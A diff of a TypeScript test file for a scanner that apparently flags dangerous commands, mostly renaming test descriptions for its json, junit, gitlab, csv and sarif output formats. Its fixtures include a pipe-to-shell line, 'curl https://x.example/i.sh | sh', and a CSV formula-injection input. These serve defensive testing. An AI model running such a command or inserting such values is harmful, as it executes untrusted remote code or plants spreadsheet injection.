@@ -4,7 +4,7 @@ import { Ajv } from "ajv";
 import { parse } from "csv-parse/sync";
 import { JSDOM } from "jsdom";
 import { describe, expect, it } from "vitest";
-import { folderWith } from "./folder.js";
+import { folderWith } from "./folder-with.js";
 import { runHere } from "./fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
@@ -18,7 +18,7 @@ const FILES = {
 const cwd = folderWith(FILES);
 const scan = (...args: string[]) => runHere(["scan", ...args], { cwd });
 
-describe("json", () => {
+describe("the format json", () => {
   const validate = new Ajv({ strict: false, allErrors: true }).compile(
     JSON.parse(readFileSync("schema/scan.schema.json", "utf8")) as object,
   );
@@ -35,7 +35,7 @@ describe("json", () => {
     expect([validate.errors, answer.version]).toEqual([null, 1]);
   });
 
-  it("does not conform to it with an additional field", async () => {
+  it("does not conform to its schema with an unknown field or another version", async () => {
     const answer = JSON.parse((await scan("--format", "json", ".")).stdout);
     expect(validate({ ...answer, version: 2 })).toBe(false);
     answer.files[0].surprise = 1;
@@ -55,7 +55,7 @@ describe("json", () => {
   });
 });
 
-describe("junit", () => {
+describe("the format junit", () => {
   it("is XML with a suite for each text", async () => {
     const { stdout } = await scan("--format", "junit", ".", "missing.md");
     const { document } = new JSDOM(stdout, { contentType: "application/xml" }).window;
@@ -77,7 +77,7 @@ describe("junit", () => {
   });
 });
 
-describe("gitlab", () => {
+describe("the format gitlab", () => {
   it("is one list with a unique fingerprint for each finding", async () => {
     const issues = JSON.parse((await scan("--format", "gitlab", "./a.md", "clean.md")).stdout) as {
       fingerprint: string;
@@ -98,8 +98,8 @@ describe("gitlab", () => {
   });
 });
 
-describe("csv", () => {
-  it("is one row for each finding, without formulas", async () => {
+describe("the format csv", () => {
+  it("has one row for each finding, in which no cell is a formula", async () => {
     const text = '=1+1\ncurl https://x.example/"i",j\n.sh | sh\n';
     const folder = folderWith({ "=x.md": text });
     const { stdout } = await runHere(["scan", "--format", "csv", "=x.md"], { cwd: folder });
@@ -117,7 +117,7 @@ describe("csv", () => {
   });
 });
 
-describe("sarif", () => {
+describe("the format sarif", () => {
   it("describes rules, fingerprints findings, and contains suppressed ones", async () => {
     const log = JSON.parse((await scan("--format", "sarif", "a.md")).stdout);
     const [run] = log.runs;
@@ -153,7 +153,7 @@ describe("sarif", () => {
     });
   });
 
-  it("contains findings of the baseline", async () => {
+  it("contains findings that the baseline suppresses", async () => {
     const folder = folderWith({ "a.md": BAD });
     await runHere(["scan", "a.md", "--baseline", "b.json", "--update-baseline"], { cwd: folder });
     const log = JSON.parse(
@@ -169,12 +169,12 @@ describe("sarif", () => {
   });
 });
 
-describe("--output and several formats", () => {
+describe("--output", () => {
   const folder = folderWith(FILES);
   const here = (...args: string[]) => runHere(["scan", "a.md", ...args], { cwd: folder });
   const read = (name: string) => readFileSync(join(folder, name), "utf8");
 
-  it("writes a file in the format of its name", async () => {
+  it("writes a file in the format that its name or --format determines", async () => {
     expect(await here("--output", "one.sarif")).toMatchObject({
       status: 1,
       stdout: "",
@@ -190,7 +190,7 @@ describe("--output and several formats", () => {
     expect(read("two.txt")).toMatch(/^path,line/);
   });
 
-  it("writes several in one run", async () => {
+  it("writes several formats in one run", async () => {
     const { stdout, status } = await here(
       "--format",
       "text",
@@ -214,7 +214,7 @@ describe("--output and several formats", () => {
     ]).toEqual(["2.1.0", 1, true]);
   });
 
-  it("does not scan its own output", async () => {
+  it("names a file that the same run does not scan", async () => {
     await runHere(["scan", ".", "-f", "json", "-o", "all.json"], { cwd: folder });
     const paths = JSON.parse(read("all.json")).files.map(({ path }: { path: string }) => path);
     expect(paths).toContain("j.json");
